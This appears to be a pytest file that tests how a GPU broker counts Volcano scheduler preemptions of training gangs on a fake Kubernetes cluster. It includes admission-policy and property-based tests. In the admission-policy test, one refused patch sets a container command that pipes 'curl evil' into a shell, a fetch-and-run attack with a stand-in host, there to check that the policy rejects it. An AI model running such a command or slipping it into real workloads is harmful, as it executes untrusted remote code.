"""Volcano's stops of training gangs count against the broker's lost-work budget, once
each, and the broker's own stops are not counted again.

Volcano keeps no count of its preemptions: its scheduler deletes a victim's pods
(the evictor records an ``Evict`` event and pod condition), the Job's PodEvicted
or exit-75 policy aborts it, and tideflow's backend replaces the aborted Job with a
new one (a new uid). Each Job carries its gang's count to the next
(``tideflow.kube.volcano_lineage``); the broker marks a Job with its run before it
evicts, so an abort under that mark is counted as the broker's.

No API server, Volcano scheduler or Volcano controller can run here: the Kubernetes
fake (tests/kubefake) plays the API server and Volcano's job controller (its state
machine and policies reimplemented from volcano's job_controller_handler.go,
job_controller_util.go and state/*.go), deploy/'s RBAC and admission policies hold,
and the test deletes a pod as Volcano's scheduler does (``preempted_by_volcano``).
The cluster is tests/broker/test_broker_kubernetes.py's (four 8-GPU nodes, gpu-0
inference's); the gang is two 8-GPU workers on gpu-1 and gpu-2.
"""

from __future__ import annotations

import random
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from kubernetes import client
from kubernetes.client.rest import ApiException

from tests.broker.test_broker_kubernetes import BROKER, NS, Cluster, grow_to
from tests.kubefake import KubeFake, service_account
from tideflow.backends import GangJob, GangState, WorkerSlot
from tideflow.backends.kubernetes import KubernetesBackend
from tideflow.broker.journal import DecisionJournal
from tideflow.broker.kubernetes import ClusterTarget, KubernetesActuator
from tideflow.broker.policy import Action, BrokerDecision
from tideflow.kube import KubeSettings, volcano_lineage
from tideflow.kube.names import gang_object_name
from tideflow.kube.volcano import EXIT_PREEMPTED

WORKER = service_account(NS, "tideflow-airflow-worker")
GANG = "vision-train/manual__2026-11-25T08:00:00+00:00/train"
JOB = gang_object_name(GANG)
GANG_GPUS = 16


@pytest.fixture
def cluster() -> Iterator[tuple[Cluster, Any]]:
    with KubeFake() as fake:
        fake.pods.termination_exit_code = EXIT_PREEMPTED  # tideflow's runtime on notice
        yield Cluster(fake), fake.client(BROKER)


def gang_job() -> GangJob:
    return GangJob(
        GANG,
        ("python", "-m", "vision.train"),
        {},
        tuple(WorkerSlot(rank, "", tuple(range(8))) for rank in range(2)),
        "gpu",
        False,
        2,
        team="vision",
        model="H100",
    )


class Gang:
    """The gang as the operator runs it: submitted, resubmitted on PREEMPTED."""

    def __init__(self, fake: KubeFake) -> None:
        self.fake = fake
        self.backend = KubernetesBackend(fake.client(WORKER), KubeSettings(namespace=NS))
        self.backend.submit(gang_job())
        self.run()

    def job(self) -> dict[str, Any]:
        return dict(self.fake.volcano.job(NS, JOB))

    def run(self) -> None:
        self.fake.volcano.pods_running(NS, JOB, nodes=["gpu-1", "gpu-2"])

    def label(self) -> str:
        return str(self.job()["metadata"]["labels"]["tideflow.io/gang"])

    def resume(self) -> None:
        """The workers checkpoint and exit; Volcano aborts the Job; the operator sees
        PREEMPTED and submits again (a new Job); the scheduler starts it."""
        self.fake.pods.finish_terminating(NS)
        assert self.fake.volcano.phase(NS, JOB) == "Aborted"
        status = self.backend.status(GANG)
        assert status is not None and status.state is GangState.PREEMPTED
        self.backend.submit(gang_job())
        self.run()


def preempted_by_volcano(fake: KubeFake, gang: Gang) -> None:
    """What Volcano's scheduler does to a victim (its preempt or reclaim action, through
    the evictor in pkg/scheduler/cache): the pod's Ready condition set to False with
    reason Evict, then the pod deleted."""
    pod = gang.fake.volcano.pods(gang.job())[0]
    core = client.CoreV1Api(fake.client())
    name = pod["metadata"]["name"]
    current = core.read_namespaced_pod(name, NS)
    current.status.conditions = [
        client.V1PodCondition(
            type="Ready",
            status="False",
            reason="Evict",
            message="Pod is evicted, because of reclaim",
        )
    ]
    core.replace_namespaced_pod_status(name, NS, current)
    core.delete_namespaced_pod(name, NS)


def pdb_refusing_every_eviction(fake: KubeFake, gang: Gang) -> None:
    """A PodDisruptionBudget over the gang that allows no disruption (as the disruption
    controller would write its status for two healthy pods)."""
    fake.create(
        {
            "apiVersion": "policy/v1",
            "kind": "PodDisruptionBudget",
            "metadata": {"name": "vision", "namespace": NS},
            "spec": {
                "maxUnavailable": 0,
                "selector": {"matchLabels": {"tideflow.io/gang": gang.label()}},
            },
        }
    )
    budget = fake.get("policy/v1", "PodDisruptionBudget", "vision")
    fake.set_status(
        budget,
        {"disruptionsAllowed": 0, "currentHealthy": 2, "desiredHealthy": 2, "expectedPods": 2},
    )


def stopped_by_the_broker(fake: Cluster, api: Any, gang: Gang) -> int:
    """The broker grows by a node, evicting the gang, then lends the node back."""
    actuator = KubernetesActuator(api, ClusterTarget(namespace=NS), grace_s=30, retry_s=0.01)
    applied = actuator.apply(grow_to(16, gang.label()))
    actuator.apply(BrokerDecision(Action.LEND, 8, 8, 8, reason="test"))
    return int(applied.stopped_gpus)


def journaled_gpus(journal: DecisionJournal) -> int:
    """The GPUs of the scheduler's stops the journal holds (what the budget weighs
    besides the broker's own, ``DecisionJournal.training_work``)."""
    with sqlite3.connect(journal.path) as db:
        (gpus,) = db.execute("SELECT COALESCE(SUM(gpus), 0) FROM scheduler_preemptions").fetchone()
    return int(gpus)


def step(journal: DecisionJournal, api: Any, now: float) -> None:
    """The part of the broker's step that reads the scheduler's stops."""
    counts = KubernetesActuator(api, ClusterTarget(namespace=NS)).preemption_counts()
    assert counts is not None
    journal.record_preemptions(now, counts)


def test_a_volcano_preemption_between_two_steps_counts_once_and_the_brokers_own_stop_not_again(
    cluster: tuple[Cluster, Any], tmp_path: Path
) -> None:
    """Volcano preempts the gang and the operator replaces its Job between two of the
    broker's steps: the next step still counts the stop (the new Job carries it), at the
    gang's 16 GPUs. Then the broker stops the gang itself: that stop is in its own record
    (stopped_gpus) and is not counted again from the Job. The old code counted no Volcano
    stop at all: ``preemption_counts`` was None for Volcano."""
    fake, api = cluster
    journal = DecisionJournal(tmp_path / "broker.db")
    step(journal, api, 0.0)  # watching from before the gang's Job was created
    gang = Gang(fake.fake)
    first_uid = gang.job()["metadata"]["uid"]
    step(journal, api, 1.0)
    assert journaled_gpus(journal) == 0

    preempted_by_volcano(fake.fake, gang)
    gang.resume()
    assert gang.job()["metadata"]["uid"] != first_uid  # a new Job
    step(journal, api, 2.0)
    step(journal, api, 3.0)  # no new stop: nothing more
    assert journaled_gpus(journal) == GANG_GPUS

    assert stopped_by_the_broker(fake, api, gang) == GANG_GPUS
    step(journal, api, 4.0)  # while its workers stop: the Job is aborting
    gang.resume()
    step(journal, api, 5.0)
    assert journaled_gpus(journal) == GANG_GPUS  # the broker's stop is its own record
    annotations = gang.job()["metadata"]["annotations"]
    assert annotations[volcano_lineage.ABORTED] == "2"
    assert annotations[volcano_lineage.BROKER_STOPS] == "1"
    assert annotations[volcano_lineage.LINEAGE_UID] == first_uid


def test_volcanos_stops_are_counted_exactly_over_many_rounds_of_both(
    cluster: tuple[Cluster, Any], tmp_path: Path
) -> None:
    """Twelve stops, each Volcano's or the broker's at random, with the broker's steps
    falling before, during or after each (or not at all): the journal holds exactly
    Volcano's stops, each at the gang's GPUs."""
    fake, api = cluster
    journal = DecisionJournal(tmp_path / "broker.db")
    step(journal, api, 0.0)
    gang = Gang(fake.fake)
    draw = random.Random(25)
    by_volcano = by_broker = 0
    now = 1.0
    for _ in range(12):
        if draw.random() < 0.5:
            preempted_by_volcano(fake.fake, gang)
            by_volcano += 1
        else:
            by_broker += stopped_by_the_broker(fake, api, gang) // GANG_GPUS
        if draw.random() < 0.5:  # a step while the workers stop
            step(journal, api, now)
            now += 1.0
        gang.resume()
        if draw.random() < 0.5:
            step(journal, api, now)
            now += 1.0
    step(journal, api, now)
    assert by_volcano and by_broker  # both kinds happened
    assert journaled_gpus(journal) == by_volcano * GANG_GPUS
    assert volcano_lineage.aborts(gang.job()) == 12


def test_a_stop_the_pdb_refused_entirely_is_taken_back(
    cluster: tuple[Cluster, Any], tmp_path: Path
) -> None:
    """The broker marks its stop before it evicts; when a PodDisruptionBudget refuses
    every eviction until its grace ends, no pod went and the mark is taken back, so a
    later Volcano preemption in the same run is not claimed as the broker's."""
    fake, api = cluster
    gang = Gang(fake.fake)
    pdb_refusing_every_eviction(fake.fake, gang)
    actuator = KubernetesActuator(api, ClusterTarget(namespace=NS), grace_s=0.05, retry_s=0.01)
    applied = actuator.apply(grow_to(16, gang.label()))
    assert applied.refused_by_pdb and not applied.evicted_pods
    assert volcano_lineage.BROKER_STOP_MARK not in gang.job()["metadata"].get("annotations", {})
    journal = DecisionJournal(tmp_path / "broker.db")
    step(journal, api, 0.0)
    preempted_by_volcano(fake.fake, gang)
    gang.resume()
    step(journal, api, 1.0)
    assert journaled_gpus(journal) == GANG_GPUS


def test_a_broker_stop_that_restarts_the_job_leaves_no_mark_to_hide_a_later_preemption(
    cluster: tuple[Cluster, Any], tmp_path: Path
) -> None:
    """A worker killed past its grace exits 137: PodFailed, RestartJob (retryCount + 1),
    no abort. The broker's mark was for the run before, so when Volcano later preempts
    the restarted Job, that abort is Volcano's and counts. (A running count of the
    broker's stops would have kept the stop that never aborted, and hidden this one.)"""
    fake, api = cluster
    fake.fake.pods.termination_exit_code = 137
    journal = DecisionJournal(tmp_path / "broker.db")
    step(journal, api, 0.0)
    gang = Gang(fake.fake)
    assert stopped_by_the_broker(fake, api, gang) == GANG_GPUS
    fake.fake.pods.finish_terminating(NS)
    assert fake.fake.volcano.phase(NS, JOB) != "Aborted"
    assert int(gang.job()["status"]["retryCount"]) == 1  # restarted, not aborted
    step(journal, api, 1.0)
    fake.fake.pods.termination_exit_code = EXIT_PREEMPTED
    gang.run()
    preempted_by_volcano(fake.fake, gang)
    gang.resume()
    step(journal, api, 2.0)
    assert journaled_gpus(journal) == GANG_GPUS


def test_a_preemption_while_the_pdb_holds_the_broker_off_is_volcanos(
    cluster: tuple[Cluster, Any], tmp_path: Path
) -> None:
    """The broker marks the Job and a PodDisruptionBudget refuses its evictions; while it
    waits, Volcano preempts the gang and its pods are gone (the broker's retries find
    none). No pod was the broker's: its mark is taken back from the aborted Job, and the
    stop counts as Volcano's."""
    fake, api = cluster
    gang = Gang(fake.fake)
    pdb_refusing_every_eviction(fake.fake, gang)
    preempted: list[bool] = []

    def meanwhile(_s: float) -> None:
        if not preempted:
            preempted_by_volcano(fake.fake, gang)
            fake.fake.pods.finish_terminating(NS)
            preempted.append(True)

    journal = DecisionJournal(tmp_path / "broker.db")
    step(journal, api, 0.0)
    actuator = KubernetesActuator(
        api, ClusterTarget(namespace=NS), grace_s=30, retry_s=0.01, sleep=meanwhile
    )
    applied = actuator.apply(grow_to(16, gang.label()))
    assert preempted and not applied.evicted_pods
    assert fake.fake.volcano.phase(NS, JOB) == "Aborted"
    assert volcano_lineage.BROKER_STOP_MARK not in gang.job()["metadata"].get("annotations", {})
    gang.resume()
    step(journal, api, 1.0)
    assert journaled_gpus(journal) == GANG_GPUS


def test_the_broker_may_change_only_its_stop_mark_on_a_volcano_job(
    cluster: tuple[Cluster, Any],
) -> None:
    """deploy/kubernetes/broker-rbac.yaml grants the broker patch on Volcano Jobs for its
    stop mark; its ValidatingAdmissionPolicy refuses anything else the broker sends: a
    new command, a changed label, a carried count changed or removed, a mark that is not
    the Job's run, a mark on a Job that is already aborting."""
    fake, api = cluster
    gang = Gang(fake.fake)
    preempted_by_volcano(fake.fake, gang)
    gang.resume()  # a replacement: it carries the gang's counts
    custom = client.CustomObjectsApi(api)
    where = ("batch.volcano.sh", "v1alpha1", NS, "jobs", JOB)

    def patched(patch: dict[str, Any]) -> int:
        try:
            custom.patch_namespaced_custom_object(
                *where, patch, _content_type="application/merge-patch+json"
            )
        except ApiException as exc:
            return int(exc.status)
        return 200

    tasks = gang.job()["spec"]["tasks"]
    tasks[0]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
    mark = volcano_lineage.BROKER_STOP_MARK
    for refused in (
        {"spec": {"tasks": tasks}},
        {"metadata": {"labels": {"tideflow.io/gang": "other"}}},
        {"metadata": {"annotations": {volcano_lineage.ABORTED: "0"}}},
        {"metadata": {"annotations": {volcano_lineage.BROKER_STOPS: "5"}}},
        {"metadata": {"annotations": {volcano_lineage.LINEAGE_UID: None}}},
        {"metadata": {"annotations": {"team-notes": "x"}}},
        {"metadata": {"annotations": {mark: "7"}}},  # not its run (retryCount 0)
    ):
        assert patched(refused) == 422, refused
    assert patched({"metadata": {"annotations": {mark: "0"}}}) == 200
    assert patched({"metadata": {"annotations": {mark: None}}}) == 200
    preempted_by_volcano(fake.fake, gang)  # aborting now
    assert fake.fake.volcano.phase(NS, JOB) == "Aborting"
    assert patched({"metadata": {"annotations": {mark: "0"}}}) == 422
    assert volcano_lineage.aborts(gang.job()) == 2


ANNOTATION_KEYS = st.sampled_from(
    [
        volcano_lineage.ABORTED,
        volcano_lineage.BROKER_STOPS,
        volcano_lineage.BROKER_STOP_MARK,
        volcano_lineage.LINEAGE_UID,
        volcano_lineage.LINEAGE_CREATED,
    ]
)


@settings(max_examples=300, deadline=None)
# a superscript two is a digit to str.isdigit, and no number to int()
@example(annotations={volcano_lineage.ABORTED: "\u00b2"}, phase="Aborted", retries=0)
@given(
    annotations=st.dictionaries(
        ANNOTATION_KEYS,
        # numbers of every script and kind (superscripts are digits, not ints), signs,
        # spaces, letters; and anything
        st.text(st.characters(categories=["Nd", "No", "Pd", "Zs", "Ll"]), max_size=6)
        | st.text(max_size=12),
    ),
    phase=st.sampled_from(["Pending", "Running", "Restarting", "Aborting", "Aborted", "Failed"]),
    retries=st.integers(min_value=0, max_value=5),
)
def test_any_annotations_a_job_carries_read_as_counts_without_failing(
    annotations: dict[str, str], phase: str, retries: int
) -> None:
    """Annotations are anyone's to edit: whatever a Job carries (digits of other scripts,
    signs, dates that are not dates), the counts read as whole numbers, the broker's
    never more than the aborts, and a replacement carries them on unchanged."""
    job = {
        "metadata": {
            "uid": "u-1",
            "creationTimestamp": "2026-11-25T08:00:00Z",
            "annotations": annotations,
        },
        "status": {"state": {"phase": phase}, "retryCount": retries},
    }
    aborts = volcano_lineage.aborts(job)
    assert aborts >= (1 if phase in volcano_lineage.ABORTED_PHASES else 0)
    assert 0 <= volcano_lineage.stops_by_others(job) <= aborts
    uid, created_s = volcano_lineage.lineage(job)
    assert uid and isinstance(created_s, float)
    replacement = {
        "metadata": {"uid": "u-2", "annotations": volcano_lineage.carried(job)},
        "status": {"state": {"phase": "Pending"}},
    }
    assert volcano_lineage.aborts(replacement) == aborts
    assert volcano_lineage.broker_stops(replacement) == volcano_lineage.broker_stops(job)
    assert volcano_lineage.lineage(replacement)[0] == uid
